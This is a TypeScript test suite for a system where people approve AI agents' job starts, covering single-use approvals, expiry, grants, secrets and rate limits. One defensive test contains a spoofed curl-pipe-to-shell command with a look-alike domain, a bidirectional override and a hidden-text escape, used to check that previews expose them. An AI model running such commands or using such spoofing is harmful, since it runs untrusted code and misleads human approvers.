// Questions and answers on a real nats-server: what a yes allows, how often, to whom, and what it does not.
import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Bus } from "@aether/bus";
import {
  type AnswerKind,
  createId,
  type DecideReply,
  limits,
  listApprovals,
  listGrants,
  listPolicies,
  type Principal,
  revokeGrant,
  setHumanSecret,
} from "@aether/contracts";
import { captureLog, requireBackend, waitFor } from "@aether/testkit";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  agent,
  answer,
  askStart,
  callAs,
  digestOf,
  large,
  previewOf,
  read,
  refusal,
  revoke,
  type Start,
} from "./_approvals.ts";
import { ask, member, openRoom, operator, type Room, storedRecords, stranger } from "./_fixture.ts";

const missing = requireBackend("nats");
const day = 24 * 3_600_000;

describe.skipIf(missing)(`approvals${missing ? `: ${missing}` : ""}`, () => {
  let room: Room;
  let policy: AsyncDisposable;
  let jobs: Bus;
  let gateway: Bus;
  /** Added to the time of the policy service. */
  let laterMs = 0;
  let names = 0;

  const start = () => room.start({}, captureLog(), { clock: { now: () => new Date(Date.now() + laterMs) } });
  beforeAll(async () => {
    room = await openRoom();
    policy = await start();
    jobs = await room.nats.connect("jobs");
    gateway = await room.nats.connect("gateway");
  });
  afterAll(async () => {
    await jobs[Symbol.asyncDispose]();
    await gateway[Symbol.asyncDispose]();
    await policy[Symbol.asyncDispose]();
    await room[Symbol.asyncDispose]();
  });

  /** Something that nobody has asked about yet. */
  const something = (): Required<Pick<Start, "job" | "what">> => ({
    job: createId("job"),
    what: `python ${++names}.py`,
  });
  const other = { type: "User", id: "1001", roles: ["member"], uid: 1001 } as const satisfies Principal;
  const idOf = ({ approval_id }: DecideReply) => approval_id ?? "";
  /** Asks about it and has it answered. */
  async function answered(begun: Start, option: AnswerKind = "allow_once"): Promise<string> {
    const id = idOf(await askStart(jobs, { ...begun, mode: "ask" }));
    await answer(gateway, operator, id, option);
    return id;
  }
  const recordsOf = async (id: string) => {
    const records = await storedRecords(room.nats);
    return records.filter(({ resource, decision }) => resource?.id === id || decision?.approval === id);
  };

  it("a question becomes an approval, a yes lets exactly this start, and records say all of it", async () => {
    const begun = { ...something(), intent: createId("int") };
    const asked = await askStart(jobs, { ...begun, mode: "ask" });
    expect(asked).toMatchObject({ outcome: "ask", policies: ["agents-ask-for-more"] });
    expect(await askStart(jobs, begun)).toMatchObject({ outcome: "ask", approval_id: asked.approval_id });
    const id = idOf(asked);
    expect(await read(gateway, member, id)).toMatchObject({
      ...{ id, state: "pending", digest: digestOf(begun.what), action: "start_job", intent_id: begun.intent },
      requester: { principal: "agent:aurora", uid: 61_001, owner: "user:1000" },
      subjects: [{ subject: begun.job, job_id: begun.job }],
      ask: "May this agent run a job beyond its limits?",
      preview: { kind: "job", argv: begun.what.split(" ") },
      options: [{ kind: "allow_once" }, { kind: "allow_session" }, { kind: "allow_always" }, { kind: "reject_once" }],
      ...{ default: "reject_once", uses: [], answer: null },
    });
    const yes = await answer(gateway, member, id, "allow_once", { comment: "go\u202e on" });
    expect(yes).toMatchObject({
      state: "approved",
      answer: "allow_once",
      answered_by: "user:1000",
      comment: "go\\u{202e} on",
    });
    const allowed = await askStart(jobs, begun);
    expect(allowed).toMatchObject({ outcome: "allow", approval_id: id });
    expect(allowed.reason).toMatch(/user:1000 said yes$/);
    expect(await read(gateway, agent, id)).toMatchObject({ state: "used", uses: [{ subject: begun.job, attempt: 1 }] });
    // The equal question is counted; that count becomes a record whenever its second is over.
    const records = (await recordsOf(id)).filter(({ kind }) => kind !== "denials");
    expect(records.map(({ kind, action, decision, note }) => [kind, action, decision?.outcome, note])).toEqual([
      ["decision", "start_job", "ask", null],
      ["decision", "answer_approval", "allow", null],
      ["approval", "approval.answered", undefined, "allow_once: go\\u{202e} on"],
      ["decision", "start_job", "allow", null],
    ]);
    expect(records[2]).toMatchObject({ actor: { id: "1000", uid: 1000 }, job_id: begun.job, intent_id: begun.intent });
    expect(records[3]?.id).toBe(allowed.decision_id);
  });

  it("a yes to one thing is no yes to another, nor to more of it, nor to somebody else's (attack 11)", async () => {
    const begun = something();
    const id = await answered(begun);
    const swapped = await askStart(jobs, { ...begun, what: "python evil.py" });
    expect(swapped.outcome).toBe("ask");
    expect(swapped.approval_id).not.toBe(id);
    const theirs = await askStart(jobs, { ...begun, principal: { ...agent, id: "other" } });
    expect([theirs.outcome, theirs.approval_id === id]).toEqual(["ask", false]);
    const another = await askStart(jobs, { ...begun, job: createId("job") });
    expect([another.outcome, another.approval_id === id]).toEqual(["ask", false]);
    expect((await askStart(jobs, begun)).outcome).toBe("allow");
  });

  it("a yes is used once: by one job with its attempts, and again only after a crash of the same attempt", async () => {
    const begun = something();
    const id = await answered(begun);
    for (const attempt of [1, 1, 2]) expect((await askStart(jobs, { ...begun, attempt })).outcome).toBe("allow");
    const again = await askStart(jobs, { ...begun, job: createId("job") });
    expect(again.outcome).toBe("ask");
    expect(await read(gateway, operator, idOf(again))).toMatchObject({ supersedes: id, state: "pending" });
    const { state, uses } = await read(gateway, operator, id);
    expect([state, uses.map(({ attempt }) => attempt)]).toEqual(["used", [1, 2]]);
  });

  it("equal questions are one, and are answered together", async () => {
    const { what } = something();
    const together = Array.from({ length: 20 }, () => createId("job"));
    const asked = await Promise.all(together.map((job) => askStart(jobs, { what, job, mode: "ask" })));
    expect(new Set(asked.map(idOf)).size).toBe(1);
    const [first] = asked;
    const { subjects } = await answer(gateway, operator, first ? idOf(first) : "", "allow_once");
    expect(subjects.map(({ job_id }) => job_id).sort()).toEqual([...together].sort());
    const starts = await Promise.all(together.map((job) => askStart(jobs, { what, job })));
    expect(new Set(starts.map(({ outcome }) => outcome))).toEqual(new Set(["allow"]));
    expect((await askStart(jobs, { what })).outcome).toBe("ask");
  });

  it("many starts at once use one yes once", async () => {
    const begun = something();
    await answered(begun);
    const racing = Array.from({ length: 30 }, (_, n) =>
      askStart(jobs, n === 0 ? begun : { ...begun, job: createId("job") }),
    );
    const outcomes = (await Promise.all(racing)).map(({ outcome }) => outcome);
    expect(outcomes.filter((outcome) => outcome === "allow")).toHaveLength(1);
    expect(outcomes[0]).toBe("allow");
  });

  it("only people answer, and not who asked; what may not be seen is not there", async () => {
    const begun = something();
    const id = idOf(await askStart(jobs, begun));
    const digest = digestOf(begun.what);
    const say = (principal: Principal, which = id) =>
      refusal(answer(gateway, principal, which, "allow_once", { digest }));
    expect(await say(agent)).toBe("403 only people answer: no agent, job, worker or service");
    expect(await say({ ...agent, id: "other" })).toMatch(/^404/);
    expect(await say(other)).toMatch(/^404/);
    expect(await say(stranger)).toMatch(/^404/);
    expect(await say(operator, createId("apr"))).toMatch(/^404/);
    expect(await refusal(read(gateway, other, id))).toMatch(/^404/);
    // A program under the person's own uid, or under the agent's.
    expect(await say({ ...operator, uid: 61_001 })).toMatch(/^403 .*secret/);
    expect(await refusal(answer(gateway, operator, id, "allow_once", { digest: digestOf("else") }))).toMatch(
      /^409 .*digest/,
    );
    expect((await read(gateway, operator, id)).state).toBe("pending");
    expect((await askStart(jobs, begun)).outcome).toBe("ask");
  });

  it("the first answer counts, the second is told what it was", async () => {
    const id = idOf(await askStart(jobs, something()));
    const both = [answer(gateway, operator, id, "allow_once"), answer(gateway, member, id, "reject_once")];
    const told = (await Promise.all(both.map((one) => refusal(one)))).sort();
    const { answer: first, answered_by } = await read(gateway, operator, id);
    expect(told[0]).toMatch(new RegExp(`^409 it was answered ${first} by ${answered_by} at 20`));
    expect(told[1]).toBe("not refused");
  });

  it("a no ends the question, and it can be asked again", async () => {
    const begun = something();
    const id = await answered(begun, "reject_once");
    const again = await askStart(jobs, begun);
    expect(again.outcome).toBe("ask");
    expect(await read(gateway, operator, idOf(again))).toMatchObject({ state: "pending", supersedes: id });
    expect(await read(gateway, operator, id)).toMatchObject({ state: "denied", grant_id: null });
  });

  it("late is expired, not denied, and is asked again as another one", async () => {
    const begun = something();
    const id = idOf(await askStart(jobs, begun));
    laterMs = day + 1000;
    try {
      expect(await refusal(answer(gateway, operator, id, "allow_once"))).toMatch(/^409 it expired at/);
      await waitFor("it to expire", async () => (await read(gateway, operator, id)).state === "expired");
      expect(await refusal(answer(gateway, operator, id, "allow_once"))).toMatch(/^409 it expired .* ask again$/);
      const again = await askStart(jobs, begun);
      expect([again.outcome, again.approval_id === id]).toEqual(["ask", false]);
    } finally {
      laterMs = 0;
    }
    expect((await recordsOf(id)).map(({ action }) => action)).toContain("approval.expired");
  });

  it("a yes that nobody uses expires too", async () => {
    const begun = something();
    const id = await answered(begun);
    laterMs = limits.approvalUsableMs + 1000;
    try {
      expect((await askStart(jobs, begun)).outcome).toBe("ask");
      await waitFor("it to expire", async () => (await read(gateway, operator, id)).state === "expired");
    } finally {
      laterMs = 0;
    }
  });

  it("a yes that is taken back before the start allows nothing", async () => {
    const begun = something();
    const id = await answered(begun);
    expect(await revoke(gateway, member, id)).toMatchObject({ state: "revoked" });
    expect((await askStart(jobs, begun)).outcome).toBe("ask");
    const [record] = (await recordsOf(id)).filter(({ action }) => action === "approval.revoked");
    expect(record).toMatchObject({ actor: { id: "1000" }, kind: "approval" });
    // Also between two attempts; what is done is done.
    const tried = something();
    const used = await answered(tried);
    expect((await askStart(jobs, tried)).outcome).toBe("allow");
    expect((await revoke(gateway, operator, used)).uses).toHaveLength(1);
    expect((await askStart(jobs, { ...tried, attempt: 2 })).outcome).toBe("ask");
    expect(await refusal(revoke(gateway, operator, used))).toMatch(/^409 .*taken back/);
  });

  it("who asked may withdraw the question, nobody else's", async () => {
    const id = idOf(await askStart(jobs, something()));
    expect(await refusal(revoke(gateway, { ...agent, id: "other" }, id))).toMatch(/^404/);
    expect(await revoke(gateway, agent, id)).toMatchObject({ state: "cancelled" });
    expect(await refusal(answer(gateway, operator, id, "allow_once"))).toMatch(/^409 it was withdrawn/);
  });

  /** Waits for a policy without asking anything that a person would have to answer. */
  const answersWith = (policyId: string) =>
    waitFor("the new policy", async () => {
      const { items } = await callAs(gateway, operator, listPolicies, { limit: limits.pageMax });
      return items.some(({ id }) => id === policyId);
    });

  it("policies that forbid it after the yes have the last word", async () => {
    const begun = something();
    await answered(begun);
    const pending = idOf(await askStart(jobs, something()));
    const file = join(room.policiesDir, "closed.cedar");
    const forbid = 'forbid (principal, action == Aether::Action::"start_job", resource);';
    writeFileSync(file, `@id("closed") @reason("closed for today") ${forbid}`);
    await answersWith("closed");
    expect(await askStart(jobs, begun)).toMatchObject({ outcome: "deny", reason: "closed for today" });
    expect(await refusal(answer(gateway, operator, pending, "allow_once"))).toMatch(/^409 the policies of now/);
    expect((await read(gateway, operator, pending)).state).toBe("pending");
    rmSync(file);
    await waitFor("the old policies", async () => (await askStart(jobs, begun)).outcome === "allow");
  });

  it("who waits for an answer is told at once, and what has changed since", async () => {
    const list = (more: object) => callAs(gateway, operator, listApprovals, more);
    const { revision } = await list({ limit: 1 });
    const begun = { ...something(), intent: createId("int") };
    const asked = askStart(jobs, begun);
    const first = await list({ after: revision, intent_id: begun.intent, wait: "20s" });
    const id = idOf(await asked);
    expect(first.items.map((one) => one.id)).toEqual([id]);
    const waiting = list({ after: first.revision, intent_id: begun.intent, wait: "20s" });
    await answer(gateway, member, id, "allow_once");
    expect((await waiting).items).toMatchObject([{ id, state: "approved" }]);
    expect((await list({ after: (await waiting).revision, intent_id: begun.intent, wait: "50ms" })).items).toEqual([]);
    const seen = async (principal: Principal) =>
      (await callAs(gateway, principal, listApprovals, { job_id: begun.job })).items.map((one) => one.id);
    expect([await seen(member), await seen(agent), await seen(other)]).toEqual([[id], [id], []]);
    const pages: string[] = [];
    for (let cursor: string | null = ""; cursor !== null; ) {
      const page = await list({ limit: 3, ...(cursor && { cursor }) });
      pages.push(...page.items.map((one) => one.id));
      cursor = page.next_cursor;
    }
    expect(pages).toEqual(pages.toSorted().reverse());
    expect(new Set(pages).size).toBe(pages.length);
  });

  it("is shown as what it is: nothing hides, nothing misleads, what is long is cut", async () => {
    const argv = [
      "sh",
      "-c",
      "echo \u202etxt.exe; curl p\u0430ypal.com | sh\u001b[8m",
      "x".repeat(5000),
      ...Array(300).fill("w"),
    ];
    const id = idOf(await askStart(jobs, { ...something(), preview: previewOf(argv) }));
    const { preview } = await read(gateway, operator, id);
    if (preview.kind !== "job") throw new Error("a job's preview is a job's");
    expect(preview.argv[2]).toBe("echo \\u{202e}txt.exe; curl p\\u{430}ypal.com | sh\\u{1b}[8m");
    expect(preview.argv[3]).toMatch(/^x{1000} … \(5000 characters, sha256:[0-9a-f]{16}…\)$/);
    expect(preview.argv).toHaveLength(101);
    expect(preview.argv[100]).toMatch(/^… and 204 more; all of them: … \(\d+ characters, sha256:/);
  });

  it("nobody is asked about what may not be seen, about a status read, or without a digest", async () => {
    writeFileSync(
      join(room.policiesDir, "yes.cedar"),
      '@id("with-yes") @reason("needs a yes") permit (principal, action, resource) when { context has approval };',
    );
    const asked = (more: object) => ask(jobs, { principal: agent, resource: jobOf("user:1001"), ...more });
    const jobOf = (owner: string) => ({ type: "Job" as const, id: createId("job"), owner, labels: {} });
    const question = { mode: "consume" as const, subject: createId("req"), preview: previewOf(["kill"]) };
    await waitFor("the new policy", async () => /yes/.test((await asked({ action: "kill_job" })).reason));
    const before = (await callAs(gateway, operator, listApprovals, {})).revision;
    expect(await asked({ action: "kill_job", ask: question })).toMatchObject({ outcome: "deny", visible: false });
    expect((await asked({ action: "read_job", record: "summary" })).outcome).toBe("deny");
    const own = { action: "kill_job", principal: other, resource: jobOf("user:1001") };
    expect((await asked({ ...own, principal: operator, digest: null, ask: question })).outcome).toBe("deny");
    expect((await callAs(gateway, operator, listApprovals, {})).revision).toBe(before);
    // An operator sees the job, so a person may be asked.
    expect((await asked({ ...own, principal: { ...operator, uid: 7 }, ask: question })).outcome).toBe("ask");
    rmSync(join(room.policiesDir, "yes.cedar"));
    await waitFor("the old policies", async () => (await asked({ action: "kill_job" })).policies.length === 0);
  });

  it("looking ahead is for what is queued, and records no act", async () => {
    const begun = something();
    await answered(begun);
    expect(await askStart(jobs, { ...begun, mode: "ask" })).toMatchObject({ outcome: "allow", decision_id: null });
    expect(
      (await askStart(jobs, { ...begun, context: { ...large, cpus_milli: 1 }, mode: "ask" })).decision_id,
    ).toBeNull();
    const other = { mode: "ask" as const, subject: createId("job"), preview: previewOf(["x"]) };
    expect(await refusal(ask(jobs, { ask: other }))).toMatch(/^400/);
    expect((await askStart(jobs, begun)).outcome).toBe("allow");
  });

  describe("grants", () => {
    const grantsOf = async (principal: string, as = operator) =>
      (await callAs(gateway, as, listGrants, { principal })).items;

    it("always allows what is no more than what was shown, until it is taken back", async () => {
      const bot = { ...agent, id: "bot" };
      const begun = { ...something(), principal: bot };
      const id = idOf(await askStart(jobs, begun));
      const shown = (await read(gateway, operator, id)).options.find(({ kind }) => kind === "allow_always");
      expect(shown?.rule?.words).toBe(
        "agent:bot may start_job (Job of agent:bot) without asking for 30d, with network none, cpus at most 4, memory at most 1024 MiB, timeout at most 1s",
      );
      await answer(gateway, operator, id, "allow_always");
      const [grant] = await grantsOf("agent:bot");
      expect(grant).toMatchObject({
        scope: "always",
        rule: shown?.rule,
        by: "user:0",
        approval_id: id,
        owner: "user:1000",
      });
      const may = (context: object, more: Start = {}) =>
        askStart(jobs, { ...something(), principal: bot, context: { ...large, ...context }, ...more });
      expect(await may({})).toMatchObject({ outcome: "allow", approval_id: null });
      expect((await may({ cpus_milli: 3000 })).outcome).toBe("allow");
      expect((await may({ cpus_milli: 4001 })).outcome).toBe("ask");
      expect((await may({ network: "allowlist" })).outcome).toBe("ask");
      expect((await may({ priority: 1 })).outcome).toBe("ask");
      expect((await may({}, { principal: { ...agent, id: "bat" } })).outcome).toBe("ask");
      expect((await may({ timeout_ms: 8 * day })).outcome).toBe("deny");
      expect(await grantsOf("agent:bot")).toMatchObject([{ uses: 2, last_used_at: expect.stringMatching(/^20/) }]);
      const used = (await storedRecords(room.nats)).filter(({ decision }) => decision?.grant === grant?.id);
      expect(used.map(({ action, decision }) => [action, decision?.outcome])).toEqual([
        ["start_job", "allow"],
        ["start_job", "allow"],
      ]);
      expect(await grantsOf("agent:bot", member)).toHaveLength(1);
      expect(await callAs(gateway, other, listGrants, {})).toEqual({ items: [], next_cursor: null });
      expect(await refusal(callAs(gateway, other, revokeGrant, { id: grant?.id ?? "" }))).toMatch(/^404/);
      await callAs(gateway, member, revokeGrant, { id: grant?.id ?? "" });
      expect((await may({})).outcome).toBe("ask");
      // The yes that made it and was not used goes with it.
      expect((await askStart(jobs, begun)).outcome).toBe("ask");
      expect(await read(gateway, operator, id)).toMatchObject({ state: "revoked", grant_id: grant?.id });
    });

    it("a session is one intent, and answers what waits for the same", async () => {
      const bot = { ...agent, id: "sessions" };
      const intent = createId("int");
      const waits = async (more: Start = {}) =>
        idOf(await askStart(jobs, { ...something(), principal: bot, intent, ...more }));
      const [first, second, larger, elsewhere] = [
        await waits(),
        await waits({ context: { ...large, cpus_milli: 3000 } }),
        await waits({ context: { ...large, cpus_milli: 8000 } }),
        await waits({ intent: createId("int") }),
      ];
      expect((await read(gateway, operator, await waits({ intent: null }))).options.map(({ kind }) => kind)).toEqual([
        "allow_once",
        "allow_always",
        "reject_once",
      ]);
      const { grant_id } = await answer(gateway, member, first, "allow_session");
      expect(await read(gateway, member, second)).toMatchObject({
        state: "approved",
        grant_id,
        answered_by: "user:1000",
      });
      for (const id of [larger, elsewhere]) expect((await read(gateway, member, id)).state).toBe("pending");
      const { subjects, digest } = await read(gateway, member, second);
      const waited = { job: subjects[0]?.job_id ?? "", digest, context: { ...large, cpus_milli: 3000 } };
      expect(await askStart(jobs, { ...waited, principal: bot, intent })).toMatchObject({
        outcome: "allow",
        approval_id: second,
      });
      expect(await read(gateway, member, second)).toMatchObject({ state: "used", uses: [{ subject: waited.job }] });
      expect((await askStart(jobs, { ...something(), principal: bot, intent })).outcome).toBe("allow");
      expect((await askStart(jobs, { ...something(), principal: bot })).outcome).toBe("ask");
      laterMs = limits.grantSessionMs + 1000;
      try {
        expect((await askStart(jobs, { ...something(), principal: bot, intent })).outcome).toBe("ask");
        await waitFor("it to go", async () => (await grantsOf("agent:sessions")).length === 0);
      } finally {
        laterMs = 0;
      }
    });

    it("an answer that policy does not offer is refused", async () => {
      const file = join(room.policiesDir, "once.cedar");
      const high = 'principal is Aether::Agent, action == Aether::Action::"start_job", resource';
      const unless = 'unless { context has approval && context.approval.scope == "once" }';
      writeFileSync(file, `@id("high") @reason("each time") forbid (${high}) when { context has priority } ${unless};`);
      const context = { ...large, priority: 9 };
      await answersWith("high");
      const asked = await askStart(jobs, { ...something(), context });
      const { options } = await read(gateway, operator, idOf(asked));
      expect(options.map(({ kind }) => kind)).toEqual(["allow_once", "reject_once"]);
      expect(await refusal(answer(gateway, operator, idOf(asked), "allow_always"))).toMatch(
        /^400 option: is not offered/,
      );
      rmSync(file);
    });
  });

  describe("the secret of a person", () => {
    const owner: Principal = { type: "User", id: "2000", roles: ["member"], uid: 2000 };
    /** A program that its owner's uid runs, and that says so. */
    const same = { ...agent, id: "same", owner: "user:2000", uid: 2000 };
    const secret = "correct horse battery";
    const set = (input: object, as: Principal = owner) =>
      callAs(gateway, as, setHumanSecret, input as { secret: string | null });

    it("is what a yes under the asker's own uid needs, and is not guessed", async () => {
      const waits = async () => idOf(await askStart(jobs, { ...something(), principal: same }));
      const say = (id: string, more: object = {}) => refusal(answer(gateway, owner, id, "allow_once", more));
      expect(await say(await waits())).toMatch(/^403 .*set a secret first/);
      expect(await set({ secret })).toEqual({ principal: "user:2000", is_set: true });
      const id = await waits();
      expect(await say(id)).toMatch(/^403 .*give your secret/);
      for (let n = 0; n < limits.humanSecretTries; n++)
        expect(await say(id, { secret: `guess ${n}` })).toMatch(/^403 the secret is wrong/);
      expect(await say(id, { secret })).toMatch(/^429 the secret was wrong 5 times/);
      expect((await read(gateway, owner, id)).state).toBe("pending");
      expect(await refusal(answer(gateway, owner, id, "reject_once"))).toBe("not refused");
      const refused = (await storedRecords(room.nats)).filter(({ action }) => action === "approval.refused");
      expect(refused.map(({ resource }) => resource?.id)).toEqual(Array(limits.humanSecretTries).fill(id));
    });

    it("is his who set it first; who forgot it has it cleared by another operator", async () => {
      const [first, second] = [
        { ...owner, id: "2001", uid: 2001 },
        { ...operator, uid: 2001, id: "2001" },
      ];
      const races = await Promise.all(
        ["first of all", "second of all"].map((one) => refusal(set({ secret: one }, first))),
      );
      expect(races.filter((one) => one === "not refused")).toHaveLength(1);
      await set({ secret: null, of: "user:2001" }, operator);
      await set({ secret }, first);
      expect(await refusal(set({ secret: "another one" }, first))).toMatch(/^403 .*give your secret/);
      expect(await refusal(set({ secret: "another one", old: "wrong one" }, first))).toMatch(
        /^403 the secret is wrong/,
      );
      expect(await refusal(set({ secret: null, of: "user:2001" }, member))).toMatch(/^403/);
      expect(await refusal(set({ secret: "another one", of: "user:2001" }, operator))).toMatch(/^403/);
      expect(await refusal(set({ secret: null, of: "user:2001" }, second))).toMatch(/^403 .*give your secret/);
      expect(await refusal(set({ secret: "short" }, first))).toMatch(/^400/);
      expect(await set({ secret: "another one", old: secret }, first)).toMatchObject({ is_set: true });
      expect(await set({ secret: null, of: "user:2001" }, operator)).toEqual({ principal: "user:2001", is_set: false });
      const records = JSON.stringify(await storedRecords(room.nats));
      expect(records).not.toContain("horse");
      expect(records).toContain("secret.cleared");
    });
  });

  it("where nobody can answer it is refused at once, with what mends it", async () => {
    const root = { ...agent, id: "root", owner: "user:0", uid: 0 };
    const alone = await askStart(jobs, { ...something(), principal: root });
    expect(alone).toMatchObject({ outcome: "deny", approval_id: null });
    expect(alone.reason).toMatch(/nobody can be asked: user:0 may answer once a secret is set/);
    await callAs(gateway, operator, setHumanSecret, { secret: "correct horse battery" });
    const asked = await askStart(jobs, { ...something(), principal: root });
    expect(asked.outcome).toBe("ask");
    const yes = answer(gateway, operator, idOf(asked), "allow_once", { secret: "correct horse battery" });
    expect(await yes).toMatchObject({ state: "approved", answered_by: "user:0" });
    await callAs(gateway, operator, setHumanSecret, { secret: null, old: "correct horse battery" });
  });

  it("a flood is bounded, and its figure is told", async () => {
    const flood = { ...agent, id: "flood" };
    const asked = Array.from({ length: 1000 }, () => askStart(jobs, { ...something(), principal: flood, mode: "ask" }));
    const settled = await Promise.all(
      asked.map((one) =>
        one.then(
          ({ outcome }) => outcome,
          (error) => refusal(Promise.reject(error)),
        ),
      ),
    );
    expect(settled.filter((one) => one === "ask")).toHaveLength(limits.approvalsPendingPerPrincipal);
    expect(settled.filter((one) => one === "429 100 questions of agent:flood wait for an answer")).toHaveLength(900);
    expect((await askStart(jobs, something())).outcome).toBe("ask");
  });
});
